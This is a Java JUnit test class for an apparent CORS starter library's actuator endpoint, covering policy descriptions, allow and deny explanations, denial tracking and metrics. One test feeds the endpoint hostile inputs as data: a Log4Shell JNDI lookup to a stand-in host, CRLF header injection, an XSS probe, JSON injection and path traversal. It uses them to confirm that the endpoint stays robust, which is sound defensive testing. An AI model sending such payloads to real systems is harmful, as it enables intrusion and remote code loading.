package io.github.corsstarter.server;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import com.jayway.jsonpath.JsonPath;
import io.github.corsstarter.tags.StartsApplications;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;

/**
 * The endpoint and the counters as an operator sees them, on a port of their own.
 */
@StartsApplications
class ActuatorTests {

	private static final String APP = "https://app.example.com";

	private static RunningApplication application;

	@BeforeAll
	static void start() {
		application = RunningApplication.start(Container.TOMCAT, ResponsesApplication.class,
				LeftOut.PROPERTY + "=security,jetty", "management.server.port=0",
				"management.endpoints.web.exposure.include=cors,metrics", "cors.policies.api.paths=/api/**",
				"cors.policies.api.allowed-origins=" + APP,
				"cors.policies.api.allowed-origin-patterns=https://*.tenants.example.com",
				"cors.policies.api.allowed-methods=PUT", "cors.policies.api.allowed-headers=Content-Type",
				"cors.policies.api.exposed-headers=ETag", "cors.policies.api.allow-credentials=true",
				"cors.policies.open.paths=/open/**", "cors.policies.open.allowed-origins=*",
				"cors.policies.open.max-age=0");
	}

	@AfterAll
	static void stop() {
		application.close();
	}

	@Test
	void policiesAreDescribed() throws IOException {
		Map<String, Object> body = json("/actuator/cors");
		assertThat(body).containsOnlyKeys("resolver", "policies", "refresh", "denials")
			.containsEntry("resolver", "io.github.corsstarter.autoconfigure.properties.PropertiesPolicyResolver");
		assertThat(body.get("policies"))
			.isEqualTo(Map.of("api",
					Map.of("paths", List.of("/api/**"), "allowedOrigins", List.of(APP), "allowedOriginPatterns",
							List.of("https://*.tenants.example.com"), "allowedOriginRegexes", List.of(),
							"allowedMethods", List.of("PUT"), "allowedHeaders", List.of("Content-Type"),
							"exposedHeaders", List.of("ETag"), "allowCredentials", true, "maxAge", 1800),
					"open",
					Map.of("paths", List.of("/open/**"), "allowedOrigins", List.of("*"), "allowedOriginPatterns",
							List.of(), "allowedOriginRegexes", List.of(), "allowedMethods", List.of(), "allowedHeaders",
							List.of(), "exposedHeaders", List.of(), "allowCredentials", false, "maxAge", 0)));
	}

	@Test
	void denialIsExplained() throws IOException {
		Map<String, Object> body = json("/actuator/cors/explain?origin=" + APP
				+ "&path=/api/notes/1&method=PATCH&headers=content-type,x-trace&credentials=true");
		assertThat(body).containsOnly(entry("outcome", "denied"),
				entry("reason", "Method 'PATCH' is not in cors.policies.api.allowed-methods."),
				entry("type", "preflight"), entry("policy", "api"), entry("verdict", "method-not-allowed"),
				entry("steps", List.of(step("policy", "passed",
						"The policy 'api' governs '/api/notes/1', which matches '/api/**' of cors.policies.api.paths."),
						step("origin", "passed",
								"Origin 'https://app.example.com' is in cors.policies.api.allowed-origins."),
						step("credentials", "passed",
								"Credentials are allowed by cors.policies.api.allow-credentials."),
						step("method", "failed", "Method 'PATCH' is not in cors.policies.api.allowed-methods."),
						step("headers", "failed", "Header 'x-trace' is not in cors.policies.api.allowed-headers."))),
				entry("headers",
						Map.of("Vary", "Origin, Access-Control-Request-Method, Access-Control-Request-Headers")),
				entry("warnings", List.of()));
	}

	@Test
	void permissionIsExplained() throws IOException {
		Map<String, Object> body = json(
				"/actuator/cors/explain?origin=https://a.tenants.example.com&path=/api/notes&method=PUT&credentials=false");
		assertThat(body).containsOnlyKeys("outcome", "type", "policy", "verdict", "steps", "headers", "warnings")
			.contains(entry("outcome", "allowed"), entry("type", "preflight"), entry("verdict", "allowed"),
					entry("headers",
							Map.of("Access-Control-Allow-Origin", "https://a.tenants.example.com",
									"Access-Control-Allow-Credentials", "true", "Access-Control-Allow-Methods",
									"GET, HEAD, POST, PUT", "Access-Control-Allow-Headers", "Content-Type",
									"Access-Control-Max-Age", "1800", "Vary",
									"Origin, Access-Control-Request-Method, Access-Control-Request-Headers")));
	}

	@Test
	void methodIsGetAndHeadersAreNoneUnlessGiven() throws IOException {
		assertThat(json("/actuator/cors/explain?origin=" + APP + "&path=/api/notes")).contains(
				entry("outcome", "allowed"), entry("type", "actual"),
				entry("headers", Map.of("Access-Control-Allow-Origin", APP, "Access-Control-Allow-Credentials", "true",
						"Access-Control-Expose-Headers", "ETag", "Vary", "Origin")));
	}

	@Test
	void pathWithoutAPolicyIsExplained() throws IOException {
		assertThat(json("/actuator/cors/explain?origin=" + APP + "&path=/other"))
			.containsOnlyKeys("outcome", "reason", "type", "steps", "headers", "warnings")
			.contains(entry("outcome", "ungoverned"), entry("headers", Map.of()),
					entry("reason", "No policy governs the path '/other': cors.policies.api.paths is '/api/**', "
							+ "cors.policies.open.paths is '/open/**'."));
	}

	@Test
	void denialIsRemembered() throws IOException {
		Wire wire = new Wire(application.port());
		for (int i = 0; i < 3; i++) {
			wire.send("OPTIONS", "/api/notes", "Origin: https://new.example", "Access-Control-Request-Method: PUT",
					"Access-Control-Request-Headers: x-trace");
		}
		List<Map<String, Object>> denials = JsonPath.read(get("/actuator/cors").body(),
				"$.denials[?(@.origin == 'https://new.example')]");
		assertThat(denials).singleElement().satisfies((denial) -> {
			assertThat(denial).containsOnlyKeys("origin", "policy", "verdict", "type", "method", "headers", "path",
					"count", "first", "last");
			assertThat(denial).contains(entry("policy", "api"), entry("verdict", "origin-not-allowed"),
					entry("type", "preflight"), entry("method", "PUT"), entry("headers", "x-trace"),
					entry("path", "/api/notes"), entry("count", 3));
			assertThat(denial.get("last")).asString().matches("\\d{4}-\\d\\d-\\d\\dT[0-9:.]+Z");
		});
	}

	@ParameterizedTest(name = "{0}")
	@CsvSource(delimiter = '|',
			textBlock = """
					no origin                 | /actuator/cors/explain?path=/api/notes                                     | 400
					no path                   | /actuator/cors/explain?origin=https://app.example.com                      | 400
					no such credentials       | /actuator/cors/explain?origin=https://a.example&path=/x&credentials=maybe  | 400
					no such operation         | /actuator/cors/policies?origin=https://a.example&path=/x                   | 404
					an empty origin           | /actuator/cors/explain?origin=&path=/api/notes                             | 200
					an empty path             | /actuator/cors/explain?origin=https://a.example&path=                      | 200
					an empty method           | /actuator/cors/explain?origin=https://a.example&path=/api/x&method=        | 200
					several methods           | /actuator/cors/explain?origin=https://a.example&path=/api/x&method=PUT&method=GET | 200
					several headers           | /actuator/cors/explain?origin=https://a.example&path=/api/x&headers=a&headers=b   | 200
					a parameter nobody knows  | /actuator/cors/explain?origin=https://a.example&path=/api/x&debug=true     | 200
					""")
	void questionIsAnsweredWhateverItIs(String description, String target, int status) throws IOException {
		assertThat(get(target).status()).isEqualTo(status);
	}

	@ParameterizedTest
	@ValueSource(strings = { "%00", "%zz", "/api/%", "/api/..;/open", "\r\nX-Evil: 1", "<script>alert(1)</script>",
			"\",\"outcome\":\"allowed", "${jndi:ldap://evil.example}", "\ud83d\ude00\u2028\u202e", "*", "null",
			"https://a.example/, https://b.example", "//////////", "\\", "a,a,a,,,,,,,,,,,,,,,,,,,,,,,,,,,,b" })
	void hostileQuestionsAreAnsweredInPrintableText(String hostile) throws IOException {
		String encoded = URLEncoder.encode(hostile, StandardCharsets.UTF_8);
		for (String path : List.of("/api/", "")) {
			Answer answer = get("/actuator/cors/explain?origin=" + encoded + "&path=" + path + encoded + "&method="
					+ encoded + "&headers=" + encoded);
			assertThat(answer.status()).isEqualTo(200);
			assertThat(JsonPath.<String>read(answer.body(), "$.outcome")).isIn("denied", "ungoverned");
			assertThat(JsonPath.<List<String>>read(answer.body(), "$.steps[*].reason")).hasSize(5)
				.allMatch((sentence) -> sentence.matches("[ -~]+"));
		}
	}

	@Test
	void longQuestionsGetShortAnswers() throws IOException {
		String text = "a".repeat(1_500);
		Answer answer = get("/actuator/cors/explain?origin=https://" + text + "&path=/api/" + text + "&method=" + text
				+ "&headers=" + "b,".repeat(500) + text);
		assertThat(answer.status()).isEqualTo(200);
		assertThat(answer.body()).hasSizeLessThan(4_000);
	}

	@Test
	void endpointIsReadOnly() throws IOException {
		assertThat(new Wire(application.managementPort()).send("POST", "/actuator/cors").status()).isEqualTo(405);
		assertThat(new Wire(application.managementPort()).send("DELETE", "/actuator/cors").status()).isEqualTo(405);
	}

	@Test
	void requestsAreCounted() throws IOException {
		Wire wire = new Wire(application.port());
		double before = count(
				"cors.requests?tag=policy:open&tag=type:preflight&tag=outcome:denied&tag=verdict:method-not-allowed");
		double preflightsBefore = count("http.server.requests?tag=method:OPTIONS&tag=status:403");
		wire.send("OPTIONS", "/open/x", "Origin: " + APP, "Access-Control-Request-Method: PATCH");
		assertThat(count(
				"cors.requests?tag=policy:open&tag=type:preflight&tag=outcome:denied&tag=verdict:method-not-allowed"))
			.isEqualTo(before + 1);
		assertThat(count("http.server.requests?tag=method:OPTIONS&tag=status:403")).isEqualTo(preflightsBefore + 1);
	}

	private static Map<String, String> step(String check, String result, String sentence) {
		return Map.of("check", check, "result", result, "reason", sentence);
	}

	private static Map<String, Object> json(String target) throws IOException {
		Answer answer = get(target);
		assertThat(answer.status()).as(answer.body()).isEqualTo(200);
		return JsonPath.read(answer.body(), "$");
	}

	/** The value of a meter that may not exist yet. */
	private static double count(String meter) throws IOException {
		Answer answer = get("/actuator/metrics/" + meter);
		return (answer.status() == 200) ? JsonPath.<Number>read(answer.body(), "$.measurements[0].value").doubleValue()
				: 0;
	}

	/** Over HTTP/1.0, so that the body comes in one piece. */
	private static Answer get(String target) throws IOException {
		return new Wire(application.managementPort()).sendRaw("GET " + target + " HTTP/1.0\r\nHost: localhost\r\n\r\n");
	}

}
